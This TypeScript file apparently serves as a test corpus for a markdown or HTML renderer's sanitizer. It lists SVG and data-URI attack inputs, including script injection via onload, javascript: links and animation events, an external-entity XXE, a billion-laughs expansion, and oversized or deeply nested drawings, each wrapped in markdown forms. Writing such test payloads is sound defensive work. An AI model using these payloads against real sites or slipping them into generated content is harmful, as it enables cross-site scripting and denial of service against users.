import { type Texts, wrapped } from '../payload.ts';

const drawings: Texts = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script href="{url}"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}" width="9" height="9"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="{url}#x"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><feImage href="{url}"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{js}"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:{js}"><text y="9">x</text></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:{js}"/><text y="9">x</text></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({url}); * { fill: url({url}) }</style><rect/></svg>',
  '<?xml-stylesheet href="{url}"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&d;&d;&d;</text></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="1000000000" height="1000000000"/>',
  `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(500)}${'</g>'.repeat(500)}</svg>`,
];

/** The drawing as a picture that comes with the text, plain and in base64; scripts are filled in before. */
const asAddress = (svg: string): string =>
  `data:image/svg+xml,${encodeURIComponent(svg)
    .replaceAll('%7Bjs%7D', '{js}')
    .replaceAll('%7Burl%7D', '{url}')}`;

/** Drawings as text, as code and as pictures. */
export const svg = [
  ...wrapped(drawings, ['{}', 'text {}', '```svg\n{}\n```', '```html\n{}\n```']),
  ...wrapped(drawings.map(asAddress), ['![x](<{}>)', '[x](<{}>)', '![x][l]\n\n[l]: <{}>']),
];

const addresses: Texts = [
  'data:text/html,<script>{js}</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oJ2RhdGEnKTwvc2NyaXB0Pg==',
  'data:application/xhtml+xml,<script>{js}</script>',
  'data:text/xml,<x/>',
  'data:text/javascript,{js}',
  'data:,x',
  'data:;base64,eA==',
  'DATA:TEXT/HTML,<b>x</b>',
  'data:image/png;base64,',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/png,{url}',
  'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuKCdkYXRhJykiLz4=',
  'data:image/x-icon;base64,AAAB',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAf/8AAH//CAYAAAA=',
  `data:image/png;base64,${'A'.repeat(40_000)}`,
  'data:font/woff2;base64,x',
  'data:text/css,*{background:url({url})}',
  'blob:{url}',
  'blob:null/00000000-0000-0000-0000-000000000000',
  'blob:http://127.0.0.1/00000000-0000-0000-0000-000000000000',
  'filesystem:{url}',
  'cid:x',
  'about:blank',
  'javascript:"<svg/onload={js}>"',
];

/** Addresses that are what they lead to. */
export const data = wrapped(addresses, ['![x](<{}>)', '[x](<{}>)', '<{}>', '<img src="{}">']);
